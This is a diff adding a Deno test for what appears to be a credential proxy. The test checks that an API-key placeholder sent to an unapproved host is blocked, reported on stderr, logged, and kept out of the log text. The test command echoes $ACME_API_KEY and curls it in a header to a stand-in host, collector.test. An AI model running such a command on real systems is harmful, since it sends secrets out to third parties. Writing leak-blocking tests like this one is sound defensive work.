@@ -73,6 +73,24 @@ Deno.test("what a run did with a credential is in the log, by host, method and a
   }
 });
 
+Deno.test("a placeholder sent elsewhere is stopped, said on stderr, and in the log; its text in neither", async () => {
+  await using acme = await openScene();
+  const send = 'echo "$ACME_API_KEY"; curl -s -H "X-Key: $ACME_API_KEY" http://collector.test/';
+
+  const { stdout, stderr } = await acme.run(["/bin/sh", "-c", send]);
+
+  const [placeholder, answer] = stdout.split("\n");
+  assert.equal(JSON.parse(answer!).error, "PlaceholderLeakError");
+  assert.match(stderr, /blocked a request to collector\.test: it carried the placeholder of acme/);
+  const denials = (await readLog(acme)).filter(({ event }) => event === "proxy_deny");
+  assert.deepEqual(denials.map(({ details }) => [details?.["host"], details?.["reason"]]), [
+    ["collector.test", "PlaceholderLeakError"],
+  ]);
+  assert.ok(placeholder!.length > 15);
+  assert.ok(!(await Deno.readTextFile(logOf(acme))).includes(placeholder!));
+  assert.ok(!stderr.includes(placeholder!));
+});
+
 Deno.test("log -f shows what comes, filtered, also over a restart of the daemon, until Ctrl-C", async () => {
   await using acme = await openScene();
   const all = startCommand(acme.home, ["log", "-f", "-n", "1", "--raw"]);
